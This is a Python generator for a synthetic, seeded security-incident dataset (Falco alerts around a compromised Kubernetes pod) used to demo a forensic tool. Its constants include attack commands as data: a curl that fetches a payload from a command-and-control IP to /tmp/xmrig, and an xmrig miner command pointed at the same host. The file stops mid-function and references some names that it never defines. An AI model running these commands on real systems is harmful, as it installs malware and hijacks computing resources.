#!/usr/bin/env python3
"""Generate the built-in casefile demo incident (demo-data/).

Deterministic and seeded, Python 3.11 standard library only.  Running it twice
produces byte-identical files.  Usage (from the repository root or anywhere):

    python3 scripts/gen_demo.py            # writes <repo>/demo-data/*
    python3 scripts/gen_demo.py --out DIR  # writes somewhere else

Every file is written in the native wire format of the system it pretends to
come from (Falco json_output lines, Loki /loki/api/v1/query_range "streams",
Elasticsearch _search with ECS documents, Prometheus /api/v1/query_range
"matrix"), so casefile reads it through the same parsers it uses for live
servers.  See demo-data/README.md for the story.
"""

from __future__ import annotations

import argparse
import base64
import calendar
import hashlib
import json
import random
import re
from pathlib import Path

SEED = 20261120


def rng(name: str) -> random.Random:
    """Independent, deterministic random stream per generator section."""
    return random.Random(f"casefile-demo:{SEED}:{name}")


# --------------------------------------------------------------------------
# Time helpers (everything is UTC, on 2026-11-20)
# --------------------------------------------------------------------------

DAY_EPOCH = calendar.timegm((2026, 11, 20, 0, 0, 0))
NS = 1_000_000_000


def at(h: int, m: int, s: float = 0.0) -> int:
    """Unix time in integer nanoseconds for HH:MM:SS(.frac) on 2026-11-20."""
    return (DAY_EPOCH + h * 3600 + m * 60) * NS + round(s * NS)


WIN_START = at(12, 30, 0)
WIN_END = at(14, 0, 0)


def _split(ns: int):
    secs, frac = divmod(ns, NS)
    sod = secs - DAY_EPOCH
    return sod // 3600, (sod % 3600) // 60, sod % 60, frac


def iso_ns(ns: int) -> str:
    h, m, s, f = _split(ns)
    return f"2026-11-20T{h:02d}:{m:02d}:{s:02d}.{f:09d}Z"


def iso_us(ns: int) -> str:
    h, m, s, f = _split(ns)
    return f"2026-11-20T{h:02d}:{m:02d}:{s:02d}.{f // 1000:06d}Z"


def iso_ms(ns: int) -> str:
    h, m, s, f = _split(ns)
    return f"2026-11-20T{h:02d}:{m:02d}:{s:02d}.{f // 1_000_000:03d}Z"


def iso_s(ns: int) -> str:
    h, m, s, _ = _split(ns)
    return f"2026-11-20T{h:02d}:{m:02d}:{s:02d}Z"


def clock_ns(ns: int) -> str:
    h, m, s, f = _split(ns)
    return f"{h:02d}:{m:02d}:{s:02d}.{f:09d}"


def syslog_ts(ns: int) -> str:
    h, m, s, _ = _split(ns)
    return f"Nov 20 {h:02d}:{m:02d}:{s:02d}"


def jitter_ns(r: random.Random, lo: float, hi: float) -> int:
    return round(r.uniform(lo, hi) * NS)


# --------------------------------------------------------------------------
# The incident: fixed identifiers and times (see README.md)
# --------------------------------------------------------------------------

CLUSTER = "acme-prod-eu1"
COMMIT = "9f1c2ab4e8d7c6b5a4f3e2d1c0b9a8f7e6d5c4b3"        # deployed at 12:41
COMMIT_SHORT = COMMIT[:7]
PREV_COMMIT = "bf25a437878efcb04cc9073b2dcb64504d5b9493"   # running before
PREV_SHORT = PREV_COMMIT[:7]
DIGEST = "sha256:a9891bc31f10030e4f29eeb6dbd4ac4f3697adaf44e05fefb4d29eacb2b0b22c"       # D
PREV_DIGEST = "sha256:f5056f1245e74afebd9d575fd34a602c0bd7487016f637cd47cda20d2fc6e4f4"
CONTAINER_ID = "5f2c1a9b3d4e64c7f708fdf0010fd26b7643fa86509adc32fb9a6f3c325bc1cf"  # C
CONTAINER_SHORT = CONTAINER_ID[:12]
API_REPO = "ghcr.io/acme/api"
POD = "api-7d9f-x2k4q"
POD_IP = "10.42.7.23"
POD_NODE = "node-07"
POD2 = "api-7d9f-h5n2c"            # second pod of the new ReplicaSet, stays clean
POD2_NODE = "node-03"
POD2_CONTAINER_ID = "8c41e07d2b9fa3c5e61d4b08f7a2c93e5d6b1f40a8e7c2d9b3f6051e4a7c8d2b"
OLD_PODS = [("api-6c4b-m8wzt", "node-02"), ("api-6c4b-q2lrn", "node-05")]
ATTACKER_IP = "203.0.113.45"
C2_IP = "185.220.101.4"
BASTION1_IP = "10.0.8.21"
BASTION2_IP = "10.0.8.22"

T = {
    "pipeline_api": at(12, 40, 52.611),
    "deploy_api": at(12, 41, 20.318),
    "api_rs_create_pod": at(12, 41, 21.044),
    "api_bind_pod": at(12, 41, 21.197),
    "container_start": at(12, 42, 7.482915),
    "api2_rs_create_pod": at(12, 42, 14.903),
    "api2_bind_pod": at(12, 42, 15.021),
    "container2_start": at(12, 42, 29.166204),
    "old1_delete": at(12, 42, 25.377),
    "old1_stop": at(12, 42, 40.912377),
    "old2_delete": at(12, 42, 50.128),
    "old2_stop": at(12, 43, 5.410263),
    "brute_start": at(12, 58, 0.0),
    "ssh_accept": at(13, 4, 5.318204),
    "wazuh_accept": at(13, 4, 6.102),
    "fim_authorized_keys": at(13, 4, 52.417),
    "k8s_list_pods": at(13, 5, 48.207),
    "k8s_exec": at(13, 6, 12.664),
    "falco_shell": at(13, 6, 20.137482913),
    "falco_shadow": at(13, 7, 2.582017344),
    "k8s_secrets_forbidden": at(13, 7, 41.903),
    "k8s_crb": at(13, 8, 14.388),
    "k8s_secrets_list": at(13, 8, 33.029),
    "k8s_secret_get": at(13, 8, 45.771),
    "falco_curl": at(13, 9, 5.004185526),
    "falco_xmrig_exec": at(13, 9, 31.771302958),
    "miner_cpu": at(13, 9, 33.0),
    "falco_c2": at(13, 10, 2.118904377),
    "falco_c2_reconnect1": at(13, 31, 44.602118730),
    "falco_c2_reconnect2": at(13, 52, 10.449183201),
    "ssh_close": at(13, 41, 10.884120),
}

PIDS = {"runc_init": 4200, "bash": 4242, "cat": 4251, "curl": 4288, "chmod": 4295, "xmrig": 4300}
XMRIG_CMDLINE = f"xmrig -o {C2_IP}:3333 -u 4CasefileDemoWalletNotARealMoneroAddress -p x -k --donate-level 1 -B"
CURL_CMDLINE = f"curl -s http://{C2_IP}/x -o /tmp/xmrig"

# --------------------------------------------------------------------------
# Generic helpers
# --------------------------------------------------------------------------

HEX = "0123456789abcdef"
B64URL = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"


def hexstr(r: random.Random, n: int) -> str:
    return "".join(r.choice(HEX) for _ in range(n))


def es_id(r: random.Random) -> str:
    return "".join(r.choice(B64URL) for _ in range(20))


def uuid4(r: random.Random) -> str:
    h = hexstr(r, 32)
    return f"{h[:8]}-{h[8:12]}-4{h[13:16]}-{'89ab'[r.randrange(4)]}{h[17:20]}-{h[20:32]}"


def dumps(obj) -> str:
    return json.dumps(obj, separators=(",", ":"), ensure_ascii=True)


def prom_float(v: float) -> str:
    """Go strconv.FormatFloat(v, 'f', -1, 64) for the value ranges used here."""
    if v == int(v):
        return str(int(v))
    s = repr(v)
    if "e" in s or "E" in s:  # never expected for our magnitudes
        raise ValueError(v)
    return s


# --------------------------------------------------------------------------
# Falco (json_output: true)
# --------------------------------------------------------------------------

PRIO_NAME = {
    "EMERGENCY": "Emergency", "ALERT": "Alert", "CRITICAL": "Critical", "ERROR": "Error",
    "WARNING": "Warning", "NOTICE": "Notice", "INFO": "Informational", "DEBUG": "Debug",
}

# Rule name -> (priority, tags, output).  Outputs copied from the upstream rules
# (fixtures/upstream/falco/rules_selected.yaml; "Contact K8S API Server From
# Container" from falco_rules.yaml), including the upstream literal
# "fd_proto=fd.l4proto" (missing %) in the two deprecated network rules.
RULES = {
    "Read sensitive file trusted after startup": (
        "WARNING", ["maturity_stable", "host", "container", "filesystem", "mitre_credential_access", "T1555"],
        "Sensitive file opened for reading by trusted program after startup | file=%fd.name pcmdline=%proc.pcmdline gparent=%proc.aname[2] ggparent=%proc.aname[3] gggparent=%proc.aname[4] evt_type=%evt.type user=%user.name user_uid=%user.uid user_loginuid=%user.loginuid process=%proc.name proc_exepath=%proc.exepath parent=%proc.pname command=%proc.cmdline terminal=%proc.tty"),
    "Read sensitive file untrusted": (
        "WARNING", ["maturity_stable", "host", "container", "filesystem", "mitre_credential_access", "T1555"],
        "Sensitive file opened for reading by non-trusted program | file=%fd.name gparent=%proc.aname[2] ggparent=%proc.aname[3] gggparent=%proc.aname[4] evt_type=%evt.type user=%user.name user_uid=%user.uid user_loginuid=%user.loginuid process=%proc.name proc_exepath=%proc.exepath parent=%proc.pname command=%proc.cmdline terminal=%proc.tty"),
    "Run shell untrusted": (
        "NOTICE", ["maturity_stable", "host", "container", "process", "shell", "mitre_execution", "T1059.004"],
        "Shell spawned by untrusted binary | parent_exe=%proc.pexe parent_exepath=%proc.pexepath pcmdline=%proc.pcmdline gparent=%proc.aname[2] ggparent=%proc.aname[3] aname[4]=%proc.aname[4] aname[5]=%proc.aname[5] aname[6]=%proc.aname[6] aname[7]=%proc.aname[7] evt_type=%evt.type user=%user.name user_uid=%user.uid user_loginuid=%user.loginuid process=%proc.name proc_exepath=%proc.exepath parent=%proc.pname command=%proc.cmdline terminal=%proc.tty exe_flags=%evt.arg.flags"),
    "System user interactive": (
        "INFO", ["maturity_stable", "host", "container", "users", "mitre_execution", "T1059", "NIST_800-53_AC-2"],
        "System user ran an interactive command | evt_type=%evt.type user=%user.name user_uid=%user.uid user_loginuid=%user.loginuid process=%proc.name proc_exepath=%proc.exepath parent=%proc.pname command=%proc.cmdline terminal=%proc.tty exe_flags=%evt.arg.flags"),
    "Terminal shell in container": (
        "NOTICE", ["maturity_stable", "container", "shell", "mitre_execution", "T1059"],
        "A shell was spawned in a container with an attached terminal | evt_type=%evt.type user=%user.name user_uid=%user.uid user_loginuid=%user.loginuid process=%proc.name proc_exepath=%proc.exepath parent=%proc.pname command=%proc.cmdline terminal=%proc.tty exe_flags=%evt.arg.flags"),
    "Search Private Keys or Passwords": (
        "WARNING", ["maturity_stable", "host", "container", "process", "filesystem", "mitre_credential_access", "T1552.001"],
        "Grep private keys or passwords activities found | evt_type=%evt.type user=%user.name user_uid=%user.uid user_loginuid=%user.loginuid process=%proc.name proc_exepath=%proc.exepath parent=%proc.pname command=%proc.cmdline terminal=%proc.tty exe_flags=%evt.arg.flags"),
    "Clear Log Activities": (
        "WARNING", ["maturity_stable", "host", "container", "filesystem", "mitre_defense_evasion", "T1070", "NIST_800-53_AU-10"],
        "Log files were tampered | file=%fd.name evt_type=%evt.type user=%user.name user_uid=%user.uid user_loginuid=%user.loginuid process=%proc.name proc_exepath=%proc.exepath parent=%proc.pname command=%proc.cmdline terminal=%proc.tty"),
    "Redirect STDOUT/STDIN to Network Connection in Container": (
        "NOTICE", ["maturity_stable", "container", "network", "process", "mitre_execution", "T1059"],
        "Redirect stdout/stdin to network connection | gparent=%proc.aname[2] ggparent=%proc.aname[3] gggparent=%proc.aname[4] fd.sip=%fd.sip connection=%fd.name lport=%fd.lport rport=%fd.rport fd_type=%fd.type fd_proto=%fd.l4proto evt_type=%evt.type user=%user.name user_uid=%user.uid user_loginuid=%user.loginuid process=%proc.name proc_exepath=%proc.exepath parent=%proc.pname command=%proc.cmdline terminal=%proc.tty"),
    "Drop and execute new binary in container": (
        "CRITICAL", ["maturity_stable", "container", "process", "mitre_persistence", "TA0003", "PCI_DSS_11.5.1"],
        "Executing binary not part of base image | proc_exe=%proc.exe proc_sname=%proc.sname gparent=%proc.aname[2] proc_exe_ino_ctime=%proc.exe_ino.ctime proc_exe_ino_mtime=%proc.exe_ino.mtime proc_exe_ino_ctime_duration_proc_start=%proc.exe_ino.ctime_duration_proc_start proc_cwd=%proc.cwd container_start_ts=%container.start_ts evt_type=%evt.type user=%user.name user_uid=%user.uid user_loginuid=%user.loginuid process=%proc.name proc_exepath=%proc.exepath parent=%proc.pname command=%proc.cmdline terminal=%proc.tty exe_flags=%evt.arg.flags"),
    "Launch Privileged Container": (
        "INFO", ["maturity_incubating", "container", "cis", "mitre_execution", "T1610", "PCI_DSS_10.2.5"],
        "Privileged container started | evt_type=%evt.type user=%user.name user_uid=%user.uid user_loginuid=%user.loginuid process=%proc.name proc_exepath=%proc.exepath parent=%proc.pname command=%proc.cmdline terminal=%proc.tty"),
    "Write below etc": (
        "ERROR", ["maturity_sandbox", "host", "container", "filesystem", "mitre_persistence", "T1098"],
        "File below /etc opened for writing | file=%fd.name pcmdline=%proc.pcmdline gparent=%proc.aname[2] ggparent=%proc.aname[3] gggparent=%proc.aname[4] evt_type=%evt.type user=%user.name user_uid=%user.uid user_loginuid=%user.loginuid process=%proc.name proc_exepath=%proc.exepath parent=%proc.pname command=%proc.cmdline terminal=%proc.tty"),
    "Unexpected outbound connection destination": (
        "NOTICE", ["maturity_deprecated", "host", "container", "network", "mitre_command_and_control", "TA0011"],
        "Disallowed outbound connection destination | connection=%fd.name lport=%fd.lport rport=%fd.rport fd_type=%fd.type fd_proto=fd.l4proto evt_type=%evt.type user=%user.name user_uid=%user.uid user_loginuid=%user.loginuid process=%proc.name proc_exepath=%proc.exepath parent=%proc.pname command=%proc.cmdline terminal=%proc.tty"),
    "Outbound Connection to C2 Servers": (
        "WARNING", ["maturity_deprecated", "host", "container", "network", "mitre_command_and_control", "TA0011"],
        "Outbound connection to C2 server | c2_domain=%fd.sip.name c2_addr=%fd.sip connection=%fd.name lport=%fd.lport rport=%fd.rport fd_type=%fd.type fd_proto=fd.l4proto evt_type=%evt.type user=%user.name user_uid=%user.uid user_loginuid=%user.loginuid process=%proc.name proc_exepath=%proc.exepath parent=%proc.pname command=%proc.cmdline terminal=%proc.tty"),
    "Contact K8S API Server From Container": (
        "NOTICE", ["maturity_stable", "container", "network", "k8s", "mitre_discovery", "T1565"],
        "Unexpected connection to K8s API Server from container | connection=%fd.name lport=%fd.lport rport=%fd.rport fd_type=%fd.type fd_proto=%fd.l4proto evt_type=%evt.type user=%user.name user_uid=%user.uid user_loginuid=%user.loginuid process=%proc.name proc_exepath=%proc.exepath parent=%proc.pname command=%proc.cmdline terminal=%proc.tty"),
}

# falco.yaml used for the demo (documented in README.md):
#   append_output:
#     - match: {source: syscall}
#       extra_output: <FALCO_EXTRA_OUTPUT>
#       extra_fields: <FALCO_EXTRA_FIELDS>
#     - match: {tags: [network]}
#       extra_fields: <FALCO_NET_EXTRA_FIELDS>
FALCO_EXTRA_OUTPUT = ("container_id=%container.id container_name=%container.name "
                      "container_image_repository=%container.image.repository "
                      "container_image_tag=%container.image.tag "
                      "k8s_pod_name=%k8s.pod.name k8s_ns_name=%k8s.ns.name")
FALCO_EXTRA_FIELDS = ["container.image.digest", "proc.pid", "proc.ppid", "proc.pcmdline", "user.uid"]
FALCO_NET_EXTRA_FIELDS = ["fd.sip", "fd.sport", "fd.cip", "fd.cport", "fd.l4proto"]

TOKEN = re.compile(r"%([A-Za-z0-9_.]+(?:\[[0-9]+\])?)")


def _fmt_field(v) -> str:
    if v is None:
        return "<NA>"
    if isinstance(v, bool):
        return "true" if v else "false"
    return str(v)


class Workload:
    def __init__(self, key, host, ns, pod, cname, repo, tag, digest, cid):
        self.key, self.host, self.ns, self.pod, self.cname = key, host, ns, pod, cname
        self.repo, self.tag, self.digest, self.cid = repo, tag, digest, cid

    @property
    def short(self):
        return self.cid[:12] if self.cid != "host" else "host"

    def fields(self):
        if self.cid == "host":
            return {"container.id": "host", "container.name": "host", "container.image.repository": None,
                    "container.image.tag": None, "container.image.digest": None,
                    "k8s.ns.name": None, "k8s.pod.name": None}
        return {"container.id": self.short, "container.name": self.cname,
                "container.image.repository": self.repo, "container.image.tag": self.tag,
                "container.image.digest": self.digest, "k8s.ns.name": self.ns, "k8s.pod.name": self.pod}


def falco_event(t: int, rule: str, w: Workload, p: dict) -> dict:
    prio, tags, out = RULES[rule]
    f = dict(w.fields())
    f.update({"evt.time": t, "user.loginuid": -1, "proc.tty": 0, "evt.arg.flags": "0",
              "fd.sip.name": None})
    anc = p.pop("ancestors", [])
    for i, name in enumerate(anc, start=2):
        f[f"proc.aname[{i}]"] = name
    for i in range(len(anc) + 2, 8):
        f[f"proc.aname[{i}]"] = None
    f.update(p)
    fmt = out + " " + FALCO_EXTRA_OUTPUT
    rendered = TOKEN.sub(lambda m: _fmt_field(f[m.group(1)]), fmt)
    names = ["evt.time"] + TOKEN.findall(fmt) + FALCO_EXTRA_FIELDS
    if "network" in tags:
        names += FALCO_NET_EXTRA_FIELDS
    of = {n: f[n] for n in sorted(set(names))}
    pname = PRIO_NAME[prio]
    return {
        "hostname": w.host,
        "output": f"{clock_ns(t)}: {pname} {rendered}",
        "priority": pname,
        "rule": rule,
        "source": "syscall",
        "tags": sorted(tags),
        "time": iso_ns(t),
        "output_fields": of,
    }


def net(cip, cport, sip, sport, proto="tcp"):
    return {"fd.name": f"{cip}:{cport}->{sip}:{sport}", "fd.cip": cip, "fd.cport": cport,
            "fd.sip": sip, "fd.sport": sport, "fd.lport": cport, "fd.rport": sport,
            "fd.type": "ipv4", "fd.l4proto": proto}


def proc(name, exepath, cmdline, pid, ppid, pname, pcmdline, user="root", uid=0, evt="execve",
         ancestors=(), tty=0, flags="EXE_LOWER_LAYER", **extra):
    d = {"proc.name": name, "proc.exepath": exepath, "proc.cmdline": cmdline, "proc.pid": pid,
         "proc.ppid": ppid, "proc.pname": pname, "proc.pcmdline": pcmdline, "user.name": user,
         "user.uid": uid, "evt.type": evt, "ancestors": list(ancestors), "proc.tty": tty,
         "evt.arg.flags": flags if evt == "execve" else "0"}
    d.update(extra)
    return d


API_WORKLOAD = Workload("api", POD_NODE, "prod", POD, "api", API_REPO, COMMIT_SHORT, DIGEST, CONTAINER_ID)

def falco_lines():
    r = rng("falco")
    ev = []

    def cid():
        return hexstr(r, 64)

    W = {
        "extdns": Workload("extdns", "node-01", "kube-system", "external-dns-7f9c6d8b5-kq2wz", "external-dns",
                           "registry.k8s.io/external-dns/external-dns", "v0.15.0",
                           "sha256:" + hexstr(r, 64), cid()),
        "ingress": Workload("ingress", "node-01", "ingress-nginx", "ingress-nginx-controller-6d5f9c7b8-2xkqp",
                            "controller", "registry.k8s.io/ingress-nginx/controller", "v1.11.3",
                            "sha256:" + hexstr(r, 64), cid()),
        "reloader": Workload("reloader", "node-02", "monitoring", "prometheus-k8s-0", "config-reloader",
                             "quay.io/prometheus-operator/prometheus-config-reloader", "v0.78.1",
                             "sha256:" + hexstr(r, 64), cid()),
        "grafana": Workload("grafana", "node-03", "monitoring", "grafana-5c8d7f6b9-wm4tn", "grafana",
                            "docker.io/grafana/grafana", "11.3.0", "sha256:" + hexstr(r, 64), cid()),
        "airflow": Workload("airflow", "node-05", "data", "airflow-worker-0", "worker",
                            "docker.io/apache/airflow", "2.10.3-python3.12", "sha256:" + hexstr(r, 64), cid()),
        "postgres": Workload("postgres", "node-05", "data", "postgres-0", "postgres",
                             "docker.io/library/postgres", "16.4", "sha256:" + hexstr(r, 64), cid()),
        "checkout": Workload("checkout", "node-02", "prod", "checkout-6f4b-9zq7d", "checkout", "ghcr.io/acme/checkout",
                             "5e8a1f2", "sha256:" + hashlib.sha256(b"checkout@prod").hexdigest(), cid()),
        "grafana-sc": Workload("grafana-sc", "node-03", "monitoring", "grafana-5c8d7f6b9-wm4tn", "grafana-sc-dashboard",
                               "quay.io/kiwigrid/k8s-sidecar", "1.28.0", "sha256:" + hexstr(r, 64), cid()),
    }
    for i in range(1, 8):
        W[f"fluentbit-0{i}"] = Workload(f"fluentbit-0{i}", f"node-0{i}", "logging", f"fluent-bit-{hexstr(r, 5)}",
                                        "fluent-bit", "cr.fluentbit.io/fluent/fluent-bit", "3.1.9",
                                        "sha256:" + hashlib.sha256(b"fluent-bit:3.1.9").hexdigest(), cid())
    # Workloads whose containers start inside the window share ids with ES
    for key, (wl, _t) in CONTAINERS_IN_WINDOW.items():
        W[key] = wl

    # ---- Contact K8S API Server From Container: external-dns sync loop, every ~60s
    w = W["extdns"]
    t = WIN_START + jitter_ns(r, 3, 40)
    while t < WIN_END - 5 * NS:
        cport = r.randint(33000, 60999)
        ev.append(falco_event(t, "Contact K8S API Server From Container", w, proc(
            "external-dns", "/bin/external-dns",
            "external-dns --source=service --source=ingress --provider=aws --registry=txt --txt-owner-id=acme-prod-eu1 --interval=1m",
            1, 0, "containerd-shim", "containerd-shim -namespace k8s.io -id " + w.cid + " -address /run/containerd/containerd.sock",
            user="nobody", uid=65534, evt="connect", ancestors=["systemd"],
            **net("10.42.1.9", cport, "10.96.0.1", 443))))
        t += jitter_ns(r, 55, 65)

    # ---- Run shell untrusted: airflow tasks spawn "sh -c" from python (~every 18s)
    w = W["airflow"]
    tasks = ["dbt run --select orders_daily", "python /opt/airflow/dags/scripts/export_s3.py --date 2026-11-20",
             "gsutil -m rsync -r /tmp/out gs://acme-analytics/out", "psql -h postgres-0.postgres.data -c 'select 1'",
             "bash /opt/airflow/dags/scripts/refresh_views.sh"]
    t = WIN_START + jitter_ns(r, 1, 15)
    while t < WIN_END - 2 * NS:
        ppid = r.randint(3000, 29999)
        task = r.choice(tasks)
        ev.append(falco_event(t, "Run shell untrusted", w, proc(
            "sh", "/usr/bin/dash", f"sh -c {task}", ppid + r.randint(1, 40), ppid, "python",
            "python /home/airflow/.local/bin/airflow tasks run analytics " + task.split()[0] + " scheduled__2026-11-20T12:00:00+00:00 --local",
            user="airflow", uid=50000, ancestors=["airflow", "tini", "containerd-shim", "systemd"],
            **{"proc.pexe": "/usr/local/bin/python", "proc.pexepath": "/usr/local/bin/python3.12"})))
        t += jitter_ns(r, 14, 34)

    # ---- Redirect STDOUT/STDIN: airflow task log shipping (occasional)
    for _ in range(28):
        t = r.randint(WIN_START + 10 * NS, WIN_END - 10 * NS)
        pid = r.randint(3000, 29999)
        ev.append(falco_event(t, "Redirect STDOUT/STDIN to Network Connection in Container", w, proc(
            "python", "/usr/local/bin/python3.12", "python -u /opt/airflow/dags/scripts/stream_logs.py", pid,
            pid - r.randint(1, 9), "sh", "sh -c python -u /opt/airflow/dags/scripts/stream_logs.py",
            user="airflow", uid=50000, evt="dup2", ancestors=["python", "airflow", "tini"],
            **net("10.42.5.31", r.randint(33000, 60999), "10.42.6.12", 24224))))

    # ---- System user interactive + Read sensitive file trusted after startup: postgres
    w = W["postgres"]
    for _ in range(56):
        t = r.randint(WIN_START + 5 * NS, WIN_END - 5 * NS)
        pid = r.randint(200, 9999)
        cmd = r.choice(["psql -U app -d orders -c VACUUM (ANALYZE) orders", "pg_isready -U postgres -h 127.0.0.1 -p 5432",
                        "psql -U postgres -Atc select pg_is_in_recovery()"])
        ev.append(falco_event(t, "System user interactive", w, proc(
            cmd.split()[0], "/usr/lib/postgresql/16/bin/" + cmd.split()[0], cmd, pid, pid - r.randint(1, 5), "bash",
            "bash -c " + cmd, user="postgres", uid=999, ancestors=["runc", "containerd-shim", "systemd"])))
    for _ in range(38):
        t = r.randint(WIN_START + 5 * NS, WIN_END - 5 * NS)
        pid = r.randint(200, 9999)
        ev.append(falco_event(t, "Read sensitive file trusted after startup", w, proc(
            "postgres", "/usr/lib/postgresql/16/bin/postgres", "postgres: app orders 10.42.2.40(51234) authentication",
            pid, 1, "postgres", "postgres -c config_file=/etc/postgresql/postgresql.conf", user="postgres", uid=999,
            evt="openat", ancestors=["containerd-shim", "systemd"],
            **{"fd.name": "/etc/pam.d/postgresql"})))

    # ---- Write below etc: ingress-nginx reloads + prometheus config-reloader
    w = W["ingress"]
    t = WIN_START + jitter_ns(r, 20, 200)
    while t < WIN_END:
        pid = r.randint(10000, 60000)
        ev.append(falco_event(t, "Write below etc", w, proc(
            "nginx-ingress-c", "/nginx-ingress-controller", "/nginx-ingress-controller --publish-service=ingress-nginx/ingress-nginx-controller --election-id=ingress-nginx-leader --controller-class=k8s.io/ingress-nginx",
            7, 1, "dumb-init", "/usr/bin/dumb-init -- /nginx-ingress-controller", user="www-data", uid=101, evt="openat",
            ancestors=["containerd-shim", "systemd"], **{"fd.name": "/etc/nginx/nginx.conf"})))
        t += jitter_ns(r, 120, 330)
    w = W["reloader"]
    t = WIN_START + jitter_ns(r, 10, 180)
    while t < WIN_END:
        ev.append(falco_event(t, "Write below etc", w, proc(
            "prometheus-conf", "/bin/prometheus-config-reloader",
            "prometheus-config-reloader --listen-address=:8080 --reload-url=http://127.0.0.1:9090/-/reload --config-file=/etc/prometheus/config/prometheus.yaml.gz --config-envsubst-file=/etc/prometheus/config_out/prometheus.env.yaml",
            1, 0, "containerd-shim", "containerd-shim -namespace k8s.io -id " + w.cid + " -address /run/containerd/containerd.sock",
            user="nobody", uid=65534, evt="openat", ancestors=["systemd"],
            **{"fd.name": "/etc/prometheus/config_out/prometheus.env.yaml"})))
        t += jitter_ns(r, 150, 260)

    # ---- Clear Log Activities: fluent-bit DaemonSet truncating its own buffers, every node
    for i in range(1, 8):
        w = W[f"fluentbit-0{i}"]
        for k in range(5):
            t = WIN_START + round((k + 0.5) * 1080 * NS) + jitter_ns(r, -300, 300)
            logf = r.choice([f"/var/log/containers/{w.pod}_logging_fluent-bit-{w.cid}.log",
                             "/var/log/fluent-bit/flb.log", "/var/log/fluent-bit/tail-db.log"])
            ev.append(falco_event(t, "Clear Log Activities", w, proc(
                "fluent-bit", "/fluent-bit/bin/fluent-bit", "fluent-bit -c /fluent-bit/etc/conf/fluent-bit.conf", 1, 0,
                "containerd-shim", "containerd-shim -namespace k8s.io -id " + w.cid + " -address /run/containerd/containerd.sock",
                evt="openat", ancestors=["systemd"], **{"fd.name": logf})))

    # ---- Run shell untrusted: checkout (java) runs its health script every ~60s
    w = W["checkout"]
    t = WIN_START + jitter_ns(r, 1, 60)
    while t < WIN_END - 2 * NS:
        pid = r.randint(2000, 30000)
        ev.append(falco_event(t, "Run shell untrusted", w, proc(
            "sh", "/bin/dash", "sh -c /app/bin/healthcheck.sh --deep", pid, 1, "java",
            "java -XX:MaxRAMPercentage=75 -jar /app/checkout.jar", user="app", uid=10001,
            ancestors=["containerd-shim", "systemd"],
            **{"proc.pexe": "/opt/java/openjdk/bin/java", "proc.pexepath": "/opt/java/openjdk/bin/java"})))
        t += jitter_ns(r, 55, 65)

    # ---- Contact K8S API Server From Container: grafana dashboard sidecar watch reconnects
    w = W["grafana-sc"]
    t = WIN_START + jitter_ns(r, 1, 120)
    while t < WIN_END - 2 * NS:
        ev.append(falco_event(t, "Contact K8S API Server From Container", w, proc(
            "python", "/usr/local/bin/python3.12", "python -u /app/sidecar.py", 1, 0, "containerd-shim",
            "containerd-shim -namespace k8s.io -id " + w.cid + " -address /run/containerd/containerd.sock",
            user="65534", uid=65534, evt="connect", ancestors=["systemd"],
            **net("10.42.3.18", r.randint(33000, 60999), "10.96.0.1", 443))))
        t += jitter_ns(r, 100, 140)

    # ---- Terminal shell in container (benign): bob in grafana, alice in staging web
    shell_sessions = [(W["grafana"], at(12, 47, 33.118), "bash", "/bin/bash", "grafana", 472),
                      (W["webstg"], at(12, 52, 9.551), "sh", "/bin/busybox", "root", 0),
                      (W["webstg"], at(13, 26, 40.902), "sh", "/bin/busybox", "root", 0)]
    for w, t, sh, exe, user, uid in shell_sessions:
        pid = r.randint(40, 400)
        ev.append(falco_event(t + r.randint(0, NS - 1), "Terminal shell in container", w, proc(
            sh, exe, sh, pid, pid - 7, "runc", "runc init", user=user, uid=uid, tty=34816,
            ancestors=["containerd-shim", "systemd"])))

    # ---- CI runners: compiled test binaries (Drop and execute) + secret grep
    for key, (pipe, t0) in RUNNER_ACTIVITY.items():
        w = W[key]
        for k in range(3):
            t = t0 + jitter_ns(r, 35 + 18 * k, 45 + 18 * k)
            pid = r.randint(300, 3000)
            binname = {"runner-web": "web-e2e-3f9a1c2d7b4e8f60", "runner-api": "api-2c7e9b1f04d6a358",
                       "runner-checkout": "checkout-91ab4c7d2e5f0813", "runner-reports": "reports-5d0e8a2b7c1f4936"}[key]
            exe = f"/builds/acme/{pipe}/target/debug/deps/{binname}"
            ctime = t - jitter_ns(r, 3, 12)
            ev.append(falco_event(t, "Drop and execute new binary in container", w, proc(
                binname, exe, f"{binname} --test-threads 4", pid, pid - r.randint(3, 30), "cargo",
                "cargo test --locked --workspace", ancestors=["bash", "gitlab-runner-helper", "containerd-shim"],
                flags="EXE_WRITABLE|EXE_UPPER_LAYER",
                **{"proc.exe": exe, "proc.sname": "bash", "proc.exe_ino.ctime": ctime, "proc.exe_ino.mtime": ctime,
                   "proc.exe_ino.ctime_duration_proc_start": t - ctime, "proc.cwd": f"/builds/acme/{pipe}/",
                   "container.start_ts": t0})))
        t = t0 + jitter_ns(r, 15, 25)
        pid = r.randint(300, 3000)
        ev.append(falco_event(t, "Search Private Keys or Passwords", w, proc(
            "grep", "/usr/bin/grep", "grep -rniE (password|secret|BEGIN RSA PRIVATE KEY) --include=*.env .",
            pid, pid - 1, "bash", "bash -c ./ci/check-no-secrets.sh", ancestors=["gitlab-runner-helper", "containerd-shim", "systemd"])))

    # ---- Launch Privileged Container: cilium restarts + bob's node debugger
    for key in ("cilium-06", "cilium-02", "node-debugger"):
        wl, t0 = CONTAINERS_IN_WINDOW[key]
        t = t0 + jitter_ns(r, 0.2, 0.9)
        if key.startswith("cilium"):
            p = proc("cilium-agent", "/usr/bin/cilium-agent", "cilium-agent --config-dir=/tmp/cilium/config-map", 1, 0,
                     "containerd-shim", "containerd-shim -namespace k8s.io", evt="execve", ancestors=["systemd"])
        else:
            p = proc("chroot", "/usr/sbin/chroot", "chroot /host", 1, 0, "containerd-shim",
                     "containerd-shim -namespace k8s.io", evt="execve", tty=34816, ancestors=["systemd"])
        ev.append(falco_event(t, "Launch Privileged Container", wl, p))

    # ---- Host level: cron's passwd backup compares /etc/shadow (classic FP), one per node
    for i in range(1, 8):
        host = Workload("host", f"node-0{i}", None, None, None, None, None, None, "host")
        t = at(13, 17, 1.0) + jitter_ns(r, 0, 50)
        pid = r.randint(300000, 900000)
        ev.append(falco_event(t, "Read sensitive file untrusted", host, proc(
            "cmp", "/usr/bin/cmp", "cmp -s shadow.bak /etc/shadow", pid, pid - 2, "sh",
            "/bin/sh /etc/cron.daily/passwd", evt="openat", ancestors=["run-parts", "sh", "cron"],
            **{"fd.name": "/etc/shadow"})))

